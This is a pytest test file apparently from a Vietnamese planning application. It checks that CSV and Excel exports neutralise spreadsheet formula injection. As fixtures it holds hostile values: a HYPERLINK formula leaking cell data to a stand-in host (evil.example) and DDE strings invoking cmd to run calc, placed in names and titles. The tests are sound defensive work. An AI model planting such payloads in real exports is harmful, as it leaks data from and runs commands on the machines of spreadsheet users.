"""Text typed by users never runs as a formula in a spreadsheet: every CSV and the workbook
keep a hostile note, body name, ad-hoc title or user name as text, and numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
import time_machine
from openpyxl import load_workbook

from gplan.extensions import db
from gplan.plans.bodies import update_body
from gplan.reporting.exports import SHEETS
from gplan.tasks.admin import add_ad_hoc_task
from tests.coordinator_support import VIEWING_DAY, at, record
from tests.helpers import ADMIN_EMAIL, COORDINATOR_EMAIL, body, focal_email, login, plan, user

NOTE = '=HYPERLINK("http://evil.example/?leak="&A2,"Xem chi tiết")'
BODY_NAME = "+Sở Y tế+cmd|' /C calc'!A0"
AD_HOC_TITLE = "-2+3+cmd|' /C calc'!A0"
USER_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE = {NOTE, BODY_NAME, AD_HOC_TITLE, USER_NAME}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile(app, seed):
    """A focal point with a hostile name leaves a hostile note on an overdue task; the body
    has a hostile name and an overdue ad-hoc task with a hostile title."""
    admin = user(ADMIN_EMAIL)
    health = body("health")
    focal = user(focal_email("health"))
    focal.name = USER_NAME
    update_body(
        admin,
        health,
        name=BODY_NAME,
        name_en=health.name_en,
        short_name=health.short_name,
        contact_email=health.contact_email,
    )
    add_ad_hoc_task(user(COORDINATOR_EMAIL), plan(seed), health, AD_HOC_TITLE, date(2018, 3, 1))
    db.session.commit()
    record(app, "health", "IV.7.b", "2017:annual_report", "in_progress", at(2018, 1, 5), note=NOTE)


def _csv_cells(data: bytes, delimiter: str = ",") -> list[list[str]]:
    assert data.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=delimiter))


def _assert_neutralised(rows: list[list[str]], expected: set[str]) -> None:
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    for text in expected:
        assert "'" + text in cells, text


@pytest.mark.parametrize("dialect", ["", "-excel-vi"])
def test_every_csv_view_keeps_hostile_text_as_text(client, seed, hostile, dialect):
    expected = {
        "overview": {BODY_NAME},
        "years": {BODY_NAME},
        "objectives": {BODY_NAME},
        "activities": {BODY_NAME},
        "overdue": {BODY_NAME, NOTE, AD_HOC_TITLE},
        "targets": {BODY_NAME},  # Health reports the sex ratio at birth
    }
    assert set(expected) == set(SHEETS)
    with time_machine.travel(VIEWING_DAY, tick=False):
        login(client, COORDINATOR_EMAIL)
        for view, texts in expected.items():
            response = client.get(f"/p/{seed.plan_id}/export/{view}{dialect}.csv")
            assert response.status_code == 200, view
            rows = _csv_cells(response.data, ";" if dialect else ",")
            _assert_neutralised(rows, texts)
        response = client.get(f"/p/{seed.plan_id}/export/overview{dialect}.csv")
        overview = _csv_cells(response.data, ";" if dialect else ",")
        health = next(row for row in overview if row[1] == "'" + BODY_NAME)
        assert health[2] == "17"  # numbers stay numbers (16 tasks and the ad-hoc one)


def test_the_workbook_holds_hostile_text_as_strings_never_formulas(client, seed, hostile):
    with time_machine.travel(VIEWING_DAY, tick=False):
        login(client, COORDINATOR_EMAIL)
        book = load_workbook(io.BytesIO(client.get(f"/p/{seed.plan_id}/export.xlsx").data))
    found = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if cell.value in HOSTILE:
                    assert cell.data_type == "s" and cell.quotePrefix, (sheet.title, cell.coordinate)
                    found.add(cell.value)
    assert found == {NOTE, BODY_NAME, AD_HOC_TITLE}
    overview = book["Tổng quan"]
    health = next(r for r in overview.iter_rows(min_row=2, values_only=True) if r[1] == BODY_NAME)
    assert health[2] == 17 and isinstance(health[2], int)
    overdue = book["Nhiệm vụ quá hạn"]
    row = next(r for r in overdue.iter_rows(min_row=2) if r[10].value == NOTE)
    assert row[7].data_type == "n" and row[5].is_date


def test_the_audit_csv_neutralises_the_same_way(client, seed, hostile):
    login(client, ADMIN_EMAIL)
    rows = _csv_cells(client.get("/admin/audit.csv").data)
    _assert_neutralised(rows, {USER_NAME})
